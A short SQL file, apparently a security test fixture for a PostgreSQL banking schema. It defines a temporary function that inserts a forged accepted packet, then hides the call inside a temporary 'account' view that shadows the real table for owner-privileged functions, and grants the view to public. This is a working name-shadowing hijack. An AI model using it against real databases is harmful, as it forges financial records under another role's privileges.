-- A core's session that puts a view of its own where a function of the owner could look for one.
create function pg_temp.intrude() returns text language plpgsql volatile as $$ begin
    insert into core.packet (client, packet, number, status, booked_at)
    values ('forged', current_user, 1, 'accepted', now());
    return 'x';
end $$;
create temp view account as
    select a.account, a.kind, a.currency, a.status, a.balance, a.credit_limit
      from core.account as a where pg_temp.intrude() = 'x';
grant select on pg_temp.account to public;
